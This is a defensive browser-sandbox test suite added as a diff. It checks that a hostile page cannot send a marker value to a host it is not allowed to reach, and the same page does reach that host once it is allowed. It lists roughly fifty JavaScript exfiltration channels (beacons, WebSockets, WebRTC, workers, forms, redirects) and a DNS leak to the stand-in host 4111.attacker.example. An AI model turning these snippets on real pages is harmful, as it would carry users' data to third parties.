@@ -1,0 +1,209 @@
+"""Trial 16: a page that wants to tell somebody who is not allowed reaches nobody, by any of the ways that browsers have.
+
+The canary counts connections, bytes and datagrams itself. The control: once it is allowed, the same page does reach it.
+"""
+
+import asyncio
+import json
+from collections.abc import AsyncGenerator, Iterable
+from contextlib import asynccontextmanager
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Browser
+
+from midcourse.worlds.browser.certificate import Certificate
+from tests.worlds.browser.fenced import Fenced, chromium, fenced, until
+from tests.worlds.browser.site import Answer, Asked, Site
+
+pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
+
+ADD = "const add = (tag, of) => document.body.append(Object.assign(document.createElement(tag), of));"
+FORM = "const form = (how) => { document.body.innerHTML = `<form action=${canary}/form ${how}><input name=a value=4111></form>`;"
+FORM += "document.forms[0].submit() };"
+
+WAYS = {
+    "image": "new Image().src = canary + '/image?4111'",
+    "image set": "add('img', {srcset: canary + '/imageset?4111 1x'})",
+    "style sheet": "add('link', {rel: 'stylesheet', href: canary + '/css?4111'})",
+    "import of a style": "add('style', {textContent: `@import url(${canary}/import?4111)`})",
+    "background": "document.body.style.background = `url(${canary}/background?4111)`",
+    "font": "add('style', {textContent: `@font-face {font-family: x; src: url(${canary}/font?4111)} body {font-family: x}`})",
+    "script": "add('script', {src: canary + '/script?4111'})",
+    "module": "import(canary + '/module?4111').catch(() => 0)",
+    "video": "add('video', {src: canary + '/video?4111', autoplay: true})",
+    "track": "add('video', {}); document.querySelector('video').innerHTML = `<track default src=${canary}/track?4111>`",
+    "object": "add('object', {data: canary + '/object?4111'})",
+    "embed": "add('embed', {src: canary + '/embed?4111'})",
+    "frame": "add('iframe', {src: canary + '/frame?4111'})",
+    "frame of a frame": "add('iframe', {srcdoc: `<iframe src=${canary}/inner?4111></iframe>`})",
+    "fetch": "fetch(canary + '/fetch?4111', {mode: 'no-cors'}).catch(() => 0)",
+    "fetch that posts": "fetch(canary + '/post', {method: 'POST', mode: 'no-cors', body: '4111'}).catch(() => 0)",
+    "fetch with a preflight": "fetch(canary + '/put', {method: 'PUT', body: '4111'}).catch(() => 0)",
+    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', canary + '/xhr?4111'); x.send()",
+    "beacon": "navigator.sendBeacon(canary + '/beacon', '4111')",
+    "ping": "add('a', {href: '#', ping: canary + '/ping?4111'}); document.querySelector('a').click()",
+    "event source": "new EventSource(canary + '/events?4111')",
+    "socket": "new WebSocket(canary.replace('http', 'ws') + '/socket?4111')",
+    "socket with TLS": "new WebSocket(canary.replace('http', 'wss') + '/socket?4111')",
+    "transport": "new WebTransport(canary.replace('http:', 'https:') + '/transport?4111').ready.catch(() => 0)",
+    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${canary}/worker?4111', {mode: 'no-cors'})`])))",
+    "import of a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${canary}/scripts?4111')`])))",
+    "shared worker": "new SharedWorker('/shared.js?' + canary)",
+    "service worker": "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/shared.js?' + canary)",
+    "prefetch": "add('link', {rel: 'prefetch', href: canary + '/prefetch?4111'})",
+    "preload": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = canary + '/preload?4111';"
+    "document.head.append(l)",
+    "preconnect": "add('link', {rel: 'preconnect', href: canary})",
+    "speculation": "add('script', {type: 'speculationrules', textContent: JSON.stringify("
+    "{prefetch: [{source: 'list', urls: [canary + '/speculation?4111']}]})})",
+    "manifest": "add('link', {rel: 'manifest', href: canary + '/manifest?4111'})",
+    "icon": "add('link', {rel: 'icon', href: canary + '/icon?4111'})",
+    "call": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:${datagrams}`}, "
+    "{urls: `turn:${datagrams}`, username: '4111', credential: 'x'}, "
+    "{urls: `turn:${tcp}?transport=tcp`, username: '4111', credential: 'x'}]});"
+    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
+    "style of a shadow": "const h = document.createElement('div'); document.body.append(h);"
+    "h.attachShadow({mode: 'closed'}).innerHTML = `<style>:host {background: url(${canary}/shadow?4111)}</style>x`",
+    "redirect of a fetch": "fetch('/away?' + canary + '/refetch', {mode: 'no-cors'}).catch(() => 0)",
+    "redirect of an image": "new Image().src = '/away?' + canary + '/reimage'",
+    "pop-up": "window.open(canary + '/popup?4111')",
+    "pop-up without opener": "window.open(canary + '/noopener?4111', '_blank', 'noopener')",
+    "login of the browser": "new Image().src = canary.replace('://', '://4111:4111@') + '/login'",
+}
+LEAVING = {
+    "download": "const a = document.createElement('a'); a.href = canary + '/download?4111'; a.download = 'x'; a.click()",
+    "navigation": "location.href = canary + '/go?4111'",
+    "replacement": "location.replace(canary + '/replace?4111')",
+    "link": "add('a', {href: canary + '/link?4111'}); document.querySelector('a').click()",
+    "form": "form('method=get')",
+    "form that posts": "form('method=post')",
+    "form in a new tab": "form('method=post target=_blank')",
+    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${canary}/refresh?4111'>`",
+    "redirect of a page": "location.href = '/away?' + canary + '/repage'",
+    "redirect of a form": "document.body.innerHTML = `<form method=post action='/kept?${canary}/reform'></form>`;"
+    "document.forms[0].submit()",
+}
+"""Ways in which the page itself goes away."""
+
+
+def attacked() -> Site:
+    def away(status: int, asked: Asked) -> Answer:
+        return Answer(status=status, fields={"Location": asked.path.partition("?")[2] + "?4111"})
+
+    shared = "fetch(location.search.slice(1) + '/shared?4111', {mode: 'no-cors'})"
+    return Site(
+        {
+            "/": "<title>Attacked</title><body>4111",
+            "/away": lambda asked: away(302, asked),
+            "/kept": lambda asked: away(307, asked),
+            "/shared.js": Answer(shared, kind="text/javascript"),
+        }
+    )
+
+
+class Datagrams(asyncio.DatagramProtocol):
+    def __init__(self) -> None:
+        self.received: list[bytes] = []
+
+    def datagram_received(self, data: bytes, addr: object) -> None:
+        self.received.append(data)
+
+
+@asynccontextmanager
+async def datagrams() -> AsyncGenerator[tuple[str, Datagrams]]:
+    loop = asyncio.get_running_loop()
+    transport, protocol = await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", 0))
+    host, port = transport.get_extra_info("sockname")
+    try:
+        yield f"{host}:{port}", protocol
+    finally:
+        transport.close()
+
+
+@pytest.fixture(scope="module")
+def certificate() -> Certificate:
+    return Certificate()
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def browser(certificate: Certificate) -> AsyncGenerator[Browser]:
+    async with chromium(certificate) as started:
+        yield started
+
+
+async def try_everything(here: Fenced, site: Site, canary: Site, udp: str) -> None:
+    where = f"const canary = {canary.url!r}, datagrams = {udp!r}, tcp = {urlsplit(canary.url).netloc!r};{ADD}{FORM}"
+    for script in WAYS.values():
+        await here.run(f"try {{ {where}{script} }} catch (refused) {{}}")
+    for script in LEAVING.values():
+        page = await here.page.context.new_page()
+        await page.goto(f"{site.url}/")
+        await page.evaluate(f"() => {{ {where}{script} }}")
+
+
+def paths(found: Iterable[str]) -> set[str]:
+    """Of requests or URLs, the last part of each path."""
+    return {urlsplit(each.rpartition(" ")[2]).path.strip("/") for each in found}
+
+
+TELLING = {
+    *("background", "beacon", "css", "download", "embed", "events", "fetch", "font", "form", "frame", "go", "image"),
+    *("imageset", "import", "inner", "link", "module", "noopener", "object", "popup", "post", "prefetch", "preload"),
+    *("put", "refetch", "reform", "refresh", "reimage", "repage", "replace", "script", "scripts", "shadow", "shared"),
+    *("speculation", "video", "worker", "xhr"),
+}
+"""Ways that reach the canary as requests, once it is allowed. Sockets, calls and connections made ahead are no requests."""
+
+
+async def test_nothing_reaches_whoever_is_not_allowed(browser: Browser) -> None:
+    async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
+        async with fenced(browser, site) as here:
+            here.outbox.attended = True  # nothing waits: what is stopped is stopped by the list alone
+            await try_everything(here, site, canary, udp)
+            turned_away: set[str] = set()
+
+            def all_tried() -> bool:
+                turned_away.update(refusal.what for refusal in here.gate.refusals())
+                tunnel = f"CONNECT {urlsplit(canary.url).netloc}"
+                return paths(turned_away) >= TELLING and tunnel in turned_away
+
+            await until(all_tried, seconds=30)
+        assert (canary.connections, canary.received, received.received) == (0, 0, [])
+
+
+async def test_the_same_page_reaches_whoever_is_allowed(browser: Browser) -> None:
+    async with attacked().served() as site, Site().served() as canary, datagrams() as (udp, received):
+        async with fenced(browser, site, {canary.url: {}}) as here:
+            here.outbox.attended = True
+            await try_everything(here, site, canary, udp)
+            await until(lambda: {*TELLING, "socket"} <= paths(asked.path for asked in canary.asked), seconds=30)
+        assert received.received == [], "there is no policy for datagrams, so nobody gets any"
+
+
+async def test_no_name_is_looked_up_by_the_browser_itself(certificate: Certificate, tmp_path: Path) -> None:
+    """A name server of the attacker's would read what is in the name."""
+    log = tmp_path / "net.json"
+    async with (
+        chromium(certificate, f"--log-net-log={log}") as browser,
+        attacked().served() as site,
+        fenced(browser, site) as here,
+    ):
+        await here.run("new Image().src = 'http://4111.attacker.example/'")
+        await here.run(ADD + "add('link', {rel: 'dns-prefetch', href: 'http://4111.attacker.example'})")
+        await here.run(ADD + "add('link', {rel: 'preconnect', href: 'https://4111.attacker.example'})")
+        call = "new RTCPeerConnection({iceServers: [{urls: 'stun:4111.attacker.example'}]})"
+        await here.page.evaluate(
+            f"async () => {{ const c = {call}; c.createDataChannel('x'); await c.setLocalDescription();"
+            "await new Promise(done => { c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done() }) }"
+        )
+        await until(lambda: any("4111" in refusal.what for refusal in here.gate.refusals()))
+    written = json.loads(log.read_text())
+    names = {number: name for name, number in written["constants"]["logEventTypes"].items()}
+    asked = [
+        event for event in written["events"] if names[event["type"]].startswith(("HOST_RESOLVER", "DNS_TRANSACTION"))
+    ]
+    assert asked, "the log would show it"
+    assert "attacker" not in json.dumps(asked)
